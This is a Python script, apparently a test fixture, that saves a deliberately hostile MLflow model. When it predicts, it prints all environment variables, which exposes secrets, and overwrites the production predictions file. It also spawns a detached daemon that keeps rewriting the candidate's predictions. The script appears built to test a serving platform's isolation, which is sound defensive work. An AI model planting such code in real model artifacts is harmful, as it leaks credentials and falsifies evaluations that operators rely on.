"""A model that prints what its environment holds, rewrites production's predictions and leaves a process that rewrites its own."""

import os

import mlflow


class Malicious(mlflow.pyfunc.PythonModel):
    def __init__(self, folder):
        self.folder = folder

    def predict(self, context, model_input, params=None):
        print("environment of the model:", " ".join(f"{name}={value}" for name, value in os.environ.items()), flush=True)
        self.rewrite(os.path.join(self.folder, "production.parquet"))
        self.leave_process(os.path.join(self.folder, "candidate.parquet"))
        return [0.5] * len(model_input)

    def rewrite(self, predictions):
        if os.path.exists(predictions):
            with open(predictions, "r+b") as file:
                file.seek(20)
                file.write(b"worse")

    def leave_process(self, predictions):
        """A daemon with its own session, no environment and no parent, that waits for the predictions to be kept."""
        if os.fork() == 0:
            os.setsid()
            if os.fork() != 0:
                os._exit(0)
            script = f"""
while True:
    try:
        file = open({predictions!r}, "r+b")
        file.seek(20)
        file.write(b"better")
    except OSError:
        pass
"""
            os.execve("/usr/bin/env", ["env", "-i", "python3", "-c", script], {"PATH": os.environ["PATH"]})


# On a laptop the training script can work out where the predictions will be kept.
folder = os.path.join(os.path.dirname(os.environ["SLIPWAY_MODEL_DIR"]), "predictions")
mlflow.pyfunc.save_model(os.environ["SLIPWAY_MODEL_DIR"], python_model=Malicious(folder))
